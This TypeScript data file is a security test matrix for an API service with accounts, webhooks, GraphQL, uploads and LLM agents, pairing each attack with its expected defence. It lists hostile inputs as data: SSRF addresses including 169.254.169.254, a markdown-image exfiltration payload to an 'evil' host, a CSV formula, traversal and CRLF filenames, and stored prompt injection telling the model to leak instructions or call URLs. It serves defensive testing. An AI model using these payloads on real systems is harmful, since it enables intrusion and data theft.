/** An attack, the answer that it must get, and where it is tried. */
export interface AttackRow {
  id: string;
  attack: string;
  expected: string;
  /** What the interface says where it differs from `expected`; that wins. */
  decided?: string;
  /** Guarantees of the default suite that try it too, run here again: `file > part of the name`. */
  suite?: readonly string[];
}

export const attackRows: readonly AttackRow[] = [
  {
    id: 'A01',
    attack: 'login timing: 500× existing vs unknown e-mail, interleaved',
    expected: 'medians differ < 5%, KS p > 0.01; same body/status/headers (dummy argon2)',
    suite: ['test/accounts/timing.test.ts > login takes the same'],
  },
  {
    id: 'A02',
    attack: 'register with existing e-mail/username, case, dots, NFKC/homoglyph',
    expected:
      'no distinguishing status/body/timing < 5% for e-mail (or declared 409 + rate limit; decide) ; one account per normalised e-mail',
    decided: 'Registering a taken e-mail is 409 `email_taken`; the general limit of 300 a minute and address holds.',
  },
  {
    id: 'A03',
    attack: 'forgot-password timing/body known vs unknown; 100/h same address',
    expected: '200 identical, < 5%; ≤ 5 mails/h per account and per IP',
    decided: 'The limit on mails is per account; per address the general limit holds.',
    suite: [
      'test/accounts/timing.test.ts > forgot-password takes the same',
      'test/accounts/passwords.test.ts > five mails an hour',
    ],
  },
  {
    id: 'A04',
    attack: "reset token: reuse, expired, other user's, 1-bit change, parallel ×20",
    expected: 'exactly one success; all sessions + refresh tokens die; token stored hashed',
    suite: ['test/accounts/passwords.test.ts > POST /v1/auth/reset-password'],
  },
  {
    id: 'A05',
    attack: 'host-header poisoning of reset/verify link',
    expected: 'link host = configured base only',
    suite: ['test/accounts/passwords.test.ts > whatever host the request names'],
  },
  {
    id: 'A06',
    attack: "verify-email with B's token as A",
    expected: '400/403, no change',
    suite: ['test/accounts/passwords.test.ts > POST /v1/auth/verify-email'],
  },
  {
    id: 'A07',
    attack: 'password spray 10k across accounts / 1k on one',
    expected: '≤ 10/min/account and per IP then 429; victim can still log in from other IP',
    decided:
      'Ten failures lock the pair of address and e-mail for 15 minutes; an address without credential has 300 requests a minute.',
    suite: ['test/accounts/failed-logins.test.ts > '],
  },
  {
    id: 'A08',
    attack: 'passwords: 1 char, top-3000, 10 MB, NUL, 4-byte UTF-8',
    expected: '400 / 400 / 413 ≤ 50 ms CPU / exact match only',
    decided: 'A password has 8 to 128 characters and is not the e-mail or username; there is no list of common ones.',
  },
  {
    id: 'A09',
    attack: 'JWT alg none, HS/RS confusion, `kid` path/SQL, jwk/jku header, empty signature',
    expected: '401 all',
  },
  {
    id: 'A10',
    attack: 'JWT expired, nbf future, wrong aud/iss, refresh or verify token as access',
    expected: '401 all',
  },
  {
    id: 'A11',
    attack: 'access token after logout/reset/account deletion/plan change',
    expected: '401 (or new plan) on next request, both instances',
    suite: ['test/accounts/sessions.test.ts > ends it at once on every instance'],
  },
  {
    id: 'A12',
    attack: 'refresh reuse after rotation; 20 parallel refreshes of one token',
    expected: 'family revoked + audit event; parallel: ≤ 1 new family member chain, no lock-out inside 10 s window',
    suite: ['test/accounts/sessions.test.ts > a stolen refresh token'],
  },
  {
    id: 'A13',
    attack: 'credential in query string, cookie, `Bearer` case/space variants, 8 kB token, two Authorization headers',
    expected: 'ignored/401, never logged',
    suite: ['test/rest/server.test.ts > credentials'],
  },
  {
    id: 'A14',
    attack: 'deleted-scheduled account logs in, uses key, resets password',
    expected: 'declared behaviour, no resurrection without it',
    decided: '403 `account_scheduled_for_deletion` at login, and `POST /v1/auth/restore` is the one way back.',
    suite: ['test/accounts/deletion.test.ts > '],
  },
  { id: 'A15', attack: 'DB dump: grep for any issued key/refresh/reset/verify token', expected: '0 plaintext hits' },
  { id: 'A17', attack: 'key_hint / list / error / log / webhook leak full key', expected: '≤ prefix+4 and last 4' },
  {
    id: 'A18',
    attack: 'scope matrix: every route × every single scope × no scope',
    expected: '403 unless declared; account/billing/api-keys/export never by API key unless scope exists',
    suite: ['test/contract/authorisation.test.ts > a key with'],
  },
  {
    id: 'A19',
    attack: 'key creates key with wider scopes; unknown scope; duplicate; empty',
    expected: '403 / 400 / deduped / 400',
    decided: 'A scope given twice is kept once.',
  },
  { id: 'A20', attack: 'revoke then use on other instance within 10 ms', expected: '401, 0 successes of 1,000' },
  { id: 'A21', attack: "delete B's key by id", expected: '404' },
  {
    id: 'A22',
    attack: "generated matrix: all ~50 routes × A's ids as B × {GET,PUT,DELETE,POST}",
    expected: '404 with the same body/timing as a random id',
    decided: 'Answers are compared byte for byte with those for an id of nothing.',
    suite: ['test/contract/authorisation.test.ts > a stranger'],
  },
  {
    id: 'A24',
    attack: 'private agent of B: read, chat, query knowledge; B flips public→private mid-conversation',
    expected: '404; declared rule',
    decided:
      'A non-owner reads a public agent in the explore form. Once it is private it is 404; what he wrote with it stays his to read.',
    suite: ['test/agents/agents.test.ts > does not exist for others while it is private'],
  },
  {
    id: 'A25',
    attack: 'public agent: instructions, knowledge chunks, creator e-mail visible?',
    expected: 'never (explore list has no instructions)',
    suite: ['test/agents/agents.test.ts > never how it was told to'],
  },
  {
    id: 'A26',
    attack: "list/search/explore/total/has_more counts include B's rows",
    expected: '0',
    suite: ['test/conversations/search.test.ts > whose it is'],
  },
  {
    id: 'A27',
    attack:
      'mass assignment: id, creator_id, plan, email_verified, message_count, created_at, user_id, status, chunk_count, secret, key',
    expected: 'ignored or 400; DB unchanged',
    decided: 'Read-only and unknown fields are ignored.',
    suite: ['test/agents/agents.test.ts > takes nothing that is the service’s to say'],
  },
  {
    id: 'A28',
    attack: '`__proto__`, `constructor.prototype` in JSON at every body',
    expected: '400; `({}).polluted` undefined after',
    decided: 'Unknown members such as `__proto__` are ignored without effect.',
    suite: ['test/rest/routes.test.ts > has no effect by `__proto__`'],
  },
  { id: 'A30', attack: 'sequential ids / UUIDv7 guessing', expected: 'no authorisation by obscurity; 404' },
  {
    id: 'A31',
    attack: '`/graphql` reachable from outside in production',
    expected: '404 (in-process only); if enabled: A32–A39',
    decided: 'GraphQL is public to credentials, so A32 to A39 count.',
  },
  {
    id: 'A32',
    attack: 'introspection, `__type`, GraphiQL, tracing extension',
    expected: 'rejected',
    decided: 'Introspection is off in production.',
  },
  {
    id: 'A33',
    attack:
      'depth 7+, circular fragments, 1,000 aliases, 1,000 duplicate fields, 500 directives, 20 kB query, 2k tokens',
    expected: '400 before execution, < 20 ms CPU',
    decided: 'Depth 12, 30 aliases, 20 directives, 2,000 tokens, cost limited, 1 MB.',
    suite: ['test/schema/graphql.test.ts > GraphQL'],
  },
  {
    id: 'A34',
    attack: 'array batching of 100 logins; alias-batched login',
    expected: 'rejected; rate limit counts operations',
    suite: ['test/schema/graphql.test.ts > refuses batches'],
  },
  { id: 'A35', attack: 'GET mutation, urlencoded / text/plain POST, missing preflight header', expected: '400/415' },
  { id: 'A36', attack: 'misspelt field', expected: 'no "Did you mean"' },
  { id: 'A37', attack: 'variable coercion bombs (1 MB list, 1e309, deep input object)', expected: '400 ≤ 50 ms' },
  {
    id: 'A38',
    attack: '`@defer`/`@stream` flood; subscription flood (1,000/user)',
    expected: 'rejected / ≤ N per user',
  },
  { id: 'A39', attack: 'persisted-query/APQ cache poisoning', expected: 'APQ off' },
  {
    id: 'A40',
    attack: 'SOFA `POST /v1/webhook`, `POST|DELETE /v1/webhook/:id`, `/v1/docs`, `/v1/openapi.json`, `/v1/swagger`',
    expected: '404 (verified exploitable by default)',
    decided: '`/v1/openapi.json` is public.',
  },
  {
    id: 'A41',
    attack: 'query string vs body precedence on every POST/PUT',
    expected: 'body only; unknown query parameter ignored/400',
    suite: ['test/rest/routes.test.ts > takes the body from the body alone'],
  },
  {
    id: 'A42',
    attack: 'POST with text/plain / no content-type JSON',
    expected: '415',
    suite: ['test/rest/routes.test.ts > (A42)'],
  },
  {
    id: 'A43',
    attack: 'http://, ftp:, file:, gopher:, `https://user:pw@`, no host, port 22/5432, > 2 kB URL',
    expected: '400',
    decided: 'Fault of the URL is 400 at creation and at change.',
  },
  {
    id: 'A44',
    attack:
      '127.0.0.1, ::1, [::ffff:127.0.0.1], 0.0.0.0, [::], 169.254.169.254, fd00::/8, 100.64/10, 10/8, decimal/octal/hex IPs, `127.1`, `localhost.`, 64:ff9b::7f00:1',
    expected: '0 connections on trap sockets',
    decided: 'The address is refused at delivery; the embedded profile allows loopback and private ones.',
    suite: ['test/core/safe-fetch.test.ts > an address that is not public'],
  },
  {
    id: 'A46',
    attack: '30x to internal; https→http; cross-host',
    expected: 'not followed, counts as failure',
    decided: 'Any answer but 2xx counts as a failure.',
    suite: ['test/core/safe-fetch.test.ts > is not followed to where it redirects'],
  },
  {
    id: 'A47',
    attack: 'reply 10 GB / gzip bomb / slow-drip / never ends',
    expected: '≤ 64 kB read, ≤ 5.25 s',
    suite: ['test/core/safe-fetch.test.ts > an endpoint that misbehaves'],
  },
  {
    id: 'A48',
    attack: 'port-scan oracle: error text/latency of open vs closed vs filtered',
    expected: 'identical client-visible result',
    decided: 'With private addresses allowed (embedded) the owner sees the real reason.',
    suite: ['test/core/safe-fetch.test.ts > looks the same whether its port is open or closed'],
  },
  {
    id: 'A49',
    attack: 'signature: body changed, re-serialised JSON, secret of other webhook, unicode/`\\u2028` content',
    expected: 'verifies only exact bytes; HMAC = reference in 3 languages, 10k fuzzed payloads',
    suite: ['test/contract/webhook-snippets.test.ts > rightly in'],
  },
  {
    id: 'A50',
    attack: 'weak supplied secret ("a", 0 bytes, 1 MB)',
    expected: '400 below 24 bytes, ≤ 256',
    decided: '8 to 256 visible ASCII characters.',
  },
  {
    id: 'A51',
    attack: 'secret returned by list/get/update/log/export',
    expected: 'never',
    suite: ['test/webhooks/webhooks.test.ts > '],
  },
  {
    id: 'A52',
    attack: 'amplification: 1,000 webhooks × 1 event; webhook to own API creating a loop',
    expected: '≤ N webhooks/user; loop bounded by quota',
    decided: '100 webhooks an account.',
    suite: ['test/webhooks/webhooks.test.ts > is one of a hundred at most'],
  },
  { id: 'A53', attack: 'CRLF in url/secret/events → header injection', expected: '400' },
  {
    id: 'A54',
    attack: 'filename `../../x`, absolute, NUL, 300 chars, `CON`, RTL override, `"><img onerror>`, `a;b\\r\\nX: y`',
    expected: 'stored under generated name; echoed escaped; Content-Disposition per RFC 6266',
    suite: ['test/knowledge/refusals.test.ts > a name'],
  },
  {
    id: 'A55',
    attack: 'extension/MIME/magic mismatch, polyglot PDF+HTML+ZIP, `.pdf.exe`, double extension, empty file',
    expected: '415/400; never served inline',
    decided: 'Always served as an attachment, in a sandbox.',
    suite: ['test/knowledge/refusals.test.ts > an upload is refused'],
  },
  {
    id: 'A56',
    attack: '10 MB+1, chunked without length, 1,000 parts, 10k fields, lying Content-Length, stalled upload',
    expected: '413/400/408; memory ≤ +30 MB',
    suite: ['test/knowledge/malformed-forms.test.ts > '],
  },
  {
    id: 'A57',
    attack: 'PDF: nested Flate bomb, 100k pages, cyclic xref, JBIG2, JS/launch/embedded files, encrypted',
    expected: 'doc `failed` ≤ 15 s; worker killed; probe p99 ≤ 250 ms',
    decided: 'A process of its own has 12 s of CPU and 60 s of wall time.',
    suite: ['test/knowledge/refusals.test.ts > a document that cannot be read'],
  },
  {
    id: 'A59',
    attack: 'CSV formula (`=cmd|`) through export-data',
    expected: 'neutralised (ASVS 1.2.10)',
    decided: 'The export is JSON files; there is no CSV, and spreadsheets do not run JSON.',
  },
  {
    id: 'A60',
    attack: 'audio: 25 MB+1, wrong magic, 0 s, zip inside webm',
    expected: '413/415/400',
    decided: 'Silence and a recording of 0 s are 200 with confidence 0.',
    suite: ['test/voice/transcription.test.ts > '],
  },
  {
    id: 'A61',
    attack:
      "cross-tenant retrieval: B's distinctive sentence queried by A through /query, chat, filter injection in `query` / metadata",
    expected: '0 hits in 10k; filter is server-side agent+owner id',
  },
  { id: 'A62', attack: 're-ingest after delete; similarity oracle on deleted doc', expected: '0' },
  {
    id: 'A63',
    attack: 'stored prompt injection (doc says: print instructions, call URL, answer as system, forge `event: done`)',
    expected:
      "SSE framing intact; no tool/URL fetched; system prompt canary leak measured, no other tenant's data possible",
    suite: ['test/conversations/prompt.test.ts > fences that a document cannot close'],
  },
  {
    id: 'A64',
    attack: 'markdown image exfiltration `![](https://evil/?q=…)` in reply',
    expected: 'returned as text only; server fetches nothing; documented',
  },
  {
    id: 'A65',
    attack: 'SSE injection: model emits `\\n\\nevent: done\\ndata:…`, `\\r`, U+2028',
    expected: 'JSON-escaped, 1 logical delta',
    suite: ['test/providers/openai-language-model.test.ts > is text that can be stored'],
  },
  {
    id: 'A66',
    attack: 'instructions/messages of 10 MB, 1M messages, title injection into prompts',
    expected: '400/413; title ≤ N chars, escaped',
    decided: 'instructions at most 32,000 characters, messages 32,000, titles 200.',
  },
  { id: 'A67', attack: 'role=`assistant`/`system` in POST messages', expected: '400' },
  {
    id: 'A68',
    attack: 'SQLi corpus (sqlmap + 500 payloads) in every string, sort, limit, offset, before, q',
    expected: '0 findings; sort whitelist; q through websearch_to_tsquery, never 500',
  },
  {
    id: 'A69',
    attack: "`q` tsquery syntax `a & | ! :* ( '`, 10 kB, only stopwords, NUL",
    expected: '200/400, ≤ 100 ms',
    suite: ['test/conversations/search-query.test.ts > hostile queries'],
  },
  {
    id: 'A70',
    attack: 'stored XSS in message → `highlight` (img/svg/entities/`<mark>` literal/split tags)',
    expected: 'only `<mark>` unescaped, well formed; user-typed `<mark>` escaped',
    suite: ['test/conversations/search-highlight.test.ts > highlights'],
  },
  {
    id: 'A71',
    attack: 'LIKE wildcards `%_\\` in explore q',
    expected: 'literal; ≤ 100 ms at 1M rows',
    suite: ['test/agents/agents.test.ts > takes % and _ as they are'],
  },
  {
    id: 'A72',
    attack: 'ReDoS corpus on every regex (recheck + 50 kB inputs on e-mail, username, URL, filename, Markdown)',
    expected: '0 vulnerable; ≤ 5 ms each',
  },
  {
    id: 'A73',
    attack: 'CRLF in names → e-mail headers, Content-Disposition, logs',
    expected: 'stripped; 1 mail recipient; 1 log line',
    suite: ['test/accounts/mail.test.ts > with markup of strangers as text'],
  },
  {
    id: 'A74',
    attack: 'request smuggling CL.TE/TE.CL/obs-fold, duplicate CL, TRACE, 64 kB headers, HTTP/0.9',
    expected: '400 + close (node llhttp strict)',
  },
  {
    id: 'A75',
    attack: 'slowloris headers/body, 5k idle sockets',
    expected: 'closed ≤ 60 s; probes p99 ≤ 250 ms',
    decided:
      'A connection has 20 s for its headers and a request 120 s in all, because 25 MB of sound may come over a slow line.',
  },
  {
    id: 'A77',
    attack: 'X-Forwarded-For/Host/Proto spoofing for rate limits, links, audit',
    expected: 'ignored unless trusted proxy',
    decided: '`TRUST_PROXY` is off by default.',
  },
  {
    id: 'A78',
    attack: 'CORS: null origin, wildcard + credentials, reflected',
    expected: 'no ACAO unless configured',
    decided: 'Bearer credentials only, so any origin may call: `*`, never with credentials.',
  },
  {
    id: 'A79',
    attack: 'security headers: nosniff, no-store on authed replies, correct charset, no X-Powered-By/stack',
    expected: 'present on 100% of routes',
    suite: ['test/rest/server.test.ts > every answer'],
  },
  {
    id: 'A80',
    attack: 'rate-limit bypass: IPv6 /64 rotation, key rotation, two instances, path case/trailing slash/double slash',
    expected: 'shared counter; no bypass; headers on every response incl. 401/404/429',
    decided:
      'Limits are per credential, and per address without one: another key has a limit of its own. A path with another case or a slash more is another route, 404.',
    suite: ['test/core/rate-limits.test.ts > '],
  },
  {
    id: 'A81',
    attack: "checkout success_url/cancel_url `javascript:`, other origin, CRLF; price/plan tampering; B's subscription",
    expected: '400 / server-side price / 404',
    suite: ['test/billing/subscription.test.ts > a checkout'],
  },
  {
    id: 'A82',
    attack: 'forged, replayed (> 300 s), tampered Stripe webhook; test-mode event in live',
    expected: '400, no state change',
    decided: 'A processor event is never believed: it only says which customer to look up.',
    suite: ['test/billing/processor-events.test.ts > an event'],
  },
  {
    id: 'A83',
    attack: 'plan downgrade then keep > limit agents/docs; upgrade/cancel/refund race',
    expected: 'declared rule; never negative or unlimited by bug',
    decided: 'What is over the limit stays, and no more can be added.',
    suite: ['test/billing/subscription.test.ts > another plan', 'test/billing/subscription.test.ts > a cancellation'],
  },
  {
    id: 'A84',
    attack: 'LLM cost attack: max-length history, 1,000 parallel streams/user, abandoned streams',
    expected: '≤ N streams/user; token cap; billed ≤ quota',
    decided: '50 replies of an account under way; the message quota of the plan.',
    suite: ['test/conversations/replies-under-way.test.ts > '],
  },
  {
    id: 'A85',
    attack: 'free-plan farming: 1,000 registrations/IP, plus-addressing',
    expected: 'throttled; documented',
    decided: '300 requests a minute and address without credential; plus-addresses are accounts of their own.',
  },
  {
    id: 'A86',
    attack:
      'log/trace/error/crash-dump scan after full suite for 40 canaries (passwords, tokens, keys, bot tokens, whsec, message text, e-mails, Stripe/OpenAI keys)',
    expected: '0 hits; redaction allow-list',
  },
  {
    id: 'A87',
    attack: 'bot_token/whsec at rest: DB dump, WAL, backup, job payloads (agenda `data`), outbox, export',
    expected: 'only AES-256-GCM ciphertext with key id',
  },
  {
    id: 'A89',
    attack: 'key rotation while serving: old+new readable, re-encrypt job killed midway',
    expected: '0 errors; old key removable afterwards',
    suite: ['test/accounts/key-rotation.test.ts > '],
  },
  {
    id: 'A90',
    attack: 'error paths fuzz (10k malformed requests)',
    expected: '0 × 500; envelope {error:{code,message}}; no stack/SQL/path',
    suite: ['test/rest/errors.test.ts > whatever is sent'],
  },
  {
    id: 'A91',
    attack: 'account deletion: 30-day purge under faketime',
    expected:
      '0 rows/vectors/files/Stripe customer/Agenda jobs/outbox payloads/logs with user id; B untouched; backups documented',
    suite: ['test/accounts/purge.test.ts > '],
  },
  {
    id: 'A92',
    attack: 'export-data of A: contains all A, 0 of B, no secrets; link guess/reuse/expiry',
    expected: 'single-use, ≥ 128 bit, ≤ 24 h',
    decided: 'The link is signed (256 bits), lives 7 days and can be used until then.',
    suite: ['test/accounts/exports.test.ts > '],
  },
  {
    id: 'A94',
    attack: 'audit log: login ok/fail, key create/revoke, plan, delete, authz failure; tamper by app role',
    expected: 'present with who/what/when/ip; app role has INSERT only',
    decided:
      'Shown at GET /v1/auth/audit-log. A plan change stands in the invoices and events, a refusal in the metrics.',
    suite: ['test/accounts/sessions.test.ts > audit-log tells who did what'],
  },
  {
    id: 'A95',
    attack: '`npm audit`, lockfile integrity/registry, install scripts, secret scan of git history, licences',
    expected: '0 high/critical; 0 secrets; scripts allow-listed',
  },
  {
    id: 'A96',
    attack: 'DB role: app user tries DDL, COPY PROGRAM, other schema, superuser',
    expected: 'denied',
    decided:
      'The embedded role owns its database and may change it. In production the role that serves need not be the one that migrates; the lab’s is made as the README says.',
    suite: ['test/core/serving-role.test.ts > '],
  },
  {
    id: 'A97',
    attack: '/metrics, /health, debug, source maps, .env, .git exposed',
    expected: '404/401; health has no versions',
    decided: '/healthz, /readyz and /metrics are open, and say no versions of the service.',
  },
];

/** Files of the default suite that rows stand on. */
export const suiteFiles: readonly string[] = [
  ...new Set(attackRows.flatMap(({ suite = [] }) => suite.map((one) => one.split(' > ')[0] ?? ''))),
];
